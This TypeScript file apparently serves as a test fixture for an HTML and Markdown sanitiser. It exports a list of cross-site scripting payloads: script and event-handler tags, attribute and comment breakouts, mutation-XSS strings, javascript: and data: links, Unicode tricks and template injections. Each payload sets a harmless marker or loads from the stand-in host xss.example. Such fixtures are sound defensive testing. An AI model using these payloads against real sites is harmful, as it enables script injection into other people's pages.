/**
 * Texts that would run a script, or load something from another host, in a page that took them for
 * HTML. Each script sets `window.__xss`; each address is on `XSS_HOST`.
 */
export const XSS_HOST = 'xss.example';

const RUN = 'window.__xss=1';
const AWAY = `https://${XSS_HOST}`;

export const XSS_PAYLOADS: readonly string[] = [
  // Elements that run or load something by themselves.
  `<script>${RUN}</script>`,
  `<script src="${AWAY}/a.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${AWAY}/pixel.png">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="${AWAY}/a.swf">`,
  `<video src=x onerror="${RUN}" autoplay></video><audio src="${AWAY}/a.mp3" autoplay></audio>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<body onload="${RUN}"><marquee onstart="${RUN}">x</marquee>`,
  // Elements that change the page around them.
  `<style>@import url(${AWAY}/a.css); * { background: url(${AWAY}/b.png) }</style>`,
  `<div style="position:fixed;inset:0;background:url(${AWAY}/c.png)">x</div>`,
  `<link rel="stylesheet" href="${AWAY}/a.css"><meta http-equiv="refresh" content="0;url=${AWAY}/">`,
  `<base href="${AWAY}/">`,
  `<form action="${AWAY}/"><button formaction="javascript:${RUN}">Continue</button></form>`,
  // Ways out of an attribute, an element or a comment.
  `"><img src=x onerror="${RUN}">`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}`,
  `</textarea></title></style></script><script>${RUN}</script>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  // Mutations: they become harmful when the browser parses the sanitised HTML once more.
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  // Markdown.
  `[open](javascript:${RUN})`,
  `[open](JaVaScRiPt&colon;${RUN}) [open](java\tscript:${RUN}) <javascript:${RUN}>`,
  `[open](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)`,
  `[open](vbscript:x) [open](//${XSS_HOST}/a)`,
  `![picture](${AWAY}/pixel.png "x\\" onerror=\\"${RUN}")`,
  `[a]: javascript:${RUN}\n\n[a]`,
  `\`\`\`html" onmouseover="${RUN}\n<img src=x onerror="${RUN}"></code></pre><script>${RUN}</script>\n\`\`\``,
  `<a href="&#1;javascript:${RUN}" target="_self" id="root" name="__xss">open</a>`,
  // Characters that hide, turn around or end a text.
  `\u202e>tpircs/<1=ssx__.wodniw>tpircs<\u202c`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<scr\u0130pt>${RUN}</scr\u0130pt><\u0000script>${RUN}</script>`.replaceAll('\u0000', ''),
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  `__proto__`,
];
